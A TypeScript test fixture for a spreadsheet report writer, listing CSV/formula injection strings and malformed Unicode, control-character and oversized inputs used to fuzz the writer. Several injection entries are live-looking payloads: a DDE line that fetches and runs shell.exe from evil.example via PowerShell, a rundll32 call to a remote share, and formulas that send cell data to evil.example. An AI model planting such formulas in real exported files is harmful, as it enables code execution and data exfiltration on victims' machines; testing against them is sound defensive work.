import fc from 'fast-check';
import { cellUnits } from '../../src/report/xlsx/text.ts';

/** Texts that are known to become a formula, a link or another cell (OWASP's list of CSV injections, and later ones). */
export const injections = [
  ...['=1+1', '+1+1', '-1+1', '-2+3', '@SUM(1+1)', '=', '+', '-', '@', '=A1', '=SUM(A1:B9)', '==1+1', '=-1'],
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget evil.example/shell.exe)'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "+2+5+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=cmd|'/c rundll32.exe \\\\192.0.2.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  '=DDE("cmd";"/C calc";"!A0")A0',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '=IMPORTDATA("https://evil.example")',
  '=IMAGE("https://evil.example/a.png")',
  '=WEBSERVICE("https://evil.example")',
  "='file:///etc/passwd'#$passwd.A1",
  '=EXEC("calc")',
  ...['\t', '\r', '\n', '\r\n', '\0', '\0\0', '\u0001', '\u000b', '\u001f', '\u007f', '\u0085'].map((c) => `${c}=1+1`),
  ...[' ', '\u00a0', '\u3000', '\ufeff', '\u200b', '\u2028', '\u202e', '\u00ad'].map((c) => `${c}=1+1`),
  ...['＝1+1', '＋1+1', '－1+1', '＠SUM(1+1)', '−1+1', '﹦1+1'],
  ...['"', "'", '"",', '","', ';', ',', '/', '|', '%', '%0A', '{', '\\', '`', '$(', '<!--', '_x003D_'].map(
    (c) => `${c}=1+1`,
  ),
  ...['"=1+1"', "'=1+1'", '{=1+1}', 'a\n=1+1', 'a\r\n"=1+1"', 'a\t=1+1', 'a"\r\n=1+1,"', '_x000A_=1+1', '_x0000_=1+1'],
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  '</t></is><f>1+1</f><is><t>',
  'https://evil.example/',
  'mailto:megan@contoso.example',
  ...['1e5', '00012', '12345678901234567890', '2026-01-01', '12:30', '50%', '(5)', '1/2', 'TRUE', '#REF!', '#N/A'],
];

/** A value of about 40,000 units that is cut inside the text that matters, whatever the language of the mark. */
const cutPlaces = [...'01234567'].map((digit) => cellUnits - 12 + Number(digit));

/** Values that break writers and readers, by class. The corpus has each of them in every text column. */
export const classes: Readonly<Record<string, readonly string[]>> = {
  nothing: ['', '__NULL__', 'null', 'NULL', '\\N', 'NaN', 'undefined', '0', ' '],
  formulas: [...injections.slice(0, 16), '\0=1+1', '\t=1+1', '\r=1+1', '\n=1+1', "'=1+1", '＝1+1'],
  lookAlikes: [
    ...['_x0041_', '_x0041_x0042_x0043_', '_x005F_x0041_', '__x000D___', '_x00e9_', '_xfffe_', '_xD83D__xDE00_'],
    // These become look-alikes together with the escape of the next character.
    ...['_x1234\u0001', '_xABCD\r', '_xffff\ufffe', '_x0041\n', '_x12345\u0001', '_x123\u0001', '_x004\u0001'],
    ...['_x04_x000D_', '_xA_', '_X0041_', '_x_x0041_', '_xZZZZ_\u0001', 'a_x_', '_x\u0002', '_x00', '_'],
  ],
  controls: [
    ...Array.from({ length: 32 }, (_, code) => `a${String.fromCharCode(code)}b`),
    ...['\0', '\0\0', '\u0001', '\u0001=x', '\u001f ', '\u007f', '\u0080\u0085\u009f', 'x\u007f', '\u0085'],
  ],
  loneSurrogates: ['\ud800', '\udfff', 'a\ud83d', '\udc00b', '\ude00\ud83d', '😀\ud83d\ud83d\ude00x\udbff', '=\ud800'],
  noncharacters: ['\ufffe', '\uffff', 'a\ufffeb\uffff', '\ufdd0\ufdef', '\u{1fffe}\u{10ffff}', '\ufffd'],
  space: [
    ...[
      ' leading',
      'trailing ',
      ' ',
      '   ',
      '\ttab',
      'tab\t',
      '\u00a0nbsp\u00a0',
      '\u3000wide',
      '\u2028a\u2029',
      'a  b',
    ],
  ],
  lineEnds: ['\n', '\r', '\r\n', '\n\r', 'a\rb', 'a\nb', 'a\r\nb', 'a\n\rb', 'x\r\r\n\n\ry', '\na', 'a\n', 'a\r\n'],
  manyLineFeeds: ['\n'.repeat(300), `a${'\nb'.repeat(300)}`, '\r\n'.repeat(300)],
  markup: ['<>&"\'', ']]>', '<!--', '&amp;', '&#x41;', '<?xml version="1.0"?>', '<![CDATA[x]]>', '</t></is></c></row>'],
  delimiters: [
    '"',
    '""',
    '"a"',
    ',',
    ';',
    "'",
    "'a",
    'a,b',
    '"\r\n"',
    '"",""',
    '\\',
    '\\"',
    '\\u0041',
    '|',
    '{c0:Raw}',
  ],
  scripts: [
    ...[
      'é',
      'é́',
      '議事録',
      '한국어',
      'العربية',
      'עִבְרִית',
      'ไทย',
      '\u202eexe.txt',
      '👩‍👩‍👧‍👦',
      '🏳️‍🌈',
      '𝒳',
      '\ufeffbom',
      'bom\ufeff',
    ],
  ],
  numbers: ['1e5', '00012', '12345678901234567890', '2026-01-01', 'TRUE', '1/2', '١٢٣', '#REF!'],
  long: [
    ...['x'.repeat(cellUnits - 1), 'x'.repeat(cellUnits), 'x'.repeat(cellUnits + 1), 'é'.repeat(cellUnits)],
    ...['議'.repeat(40_000), `=${'1+'.repeat(20_000)}1`, `   ${'long'.repeat(10_000)}`, '<&>'.repeat(11_000)],
    // Pairs, escapes and paragraphs make LibreOffice slow, so they stand only where a cell ends.
    ...['😀', '_x0041_', '\0', '\ud800'].map((unit) => `${'y'.repeat(32_000)}${unit.repeat(8_000 / unit.length)}`),
    'a line of a log\r\n'.repeat(2_400),
    ...cutPlaces.map((place) => `${'y'.repeat(place)}${'😀'.repeat(30)}`),
    `${'y'.repeat(cellUnits - 10)}_x0041_x0042_x0043_`,
    `${'y'.repeat(cellUnits - 9)}${'\ud83d'.repeat(30)}`,
  ],
};

/** All of Unicode; lone surrogates and texts that break writers come far more often than by chance. */
export const anyText = fc.oneof(
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
  {
    weight: 2,
    arbitrary: fc.string({
      unit: fc.constantFrom(...'_x0041_xFFFE\0\u0001\r\n\t <>&"\'=+-@;,\u007f\u0085'),
      maxLength: 40,
    }),
  },
  {
    weight: 1,
    arbitrary: fc.string({
      unit: fc.integer({ min: 0xd780, max: 0xe080 }).map((code) => String.fromCharCode(code)),
      maxLength: 12,
    }),
  },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      ...Object.values(classes)
        .flat()
        .filter((text) => text.length < 1000),
    ),
  },
  {
    weight: 1,
    arbitrary: fc
      .array(
        fc.constantFrom(
          ...Object.values(classes)
            .flat()
            .filter((text) => text.length < 40),
        ),
        { maxLength: 5 },
      )
      .map((texts) => texts.join('')),
  },
);
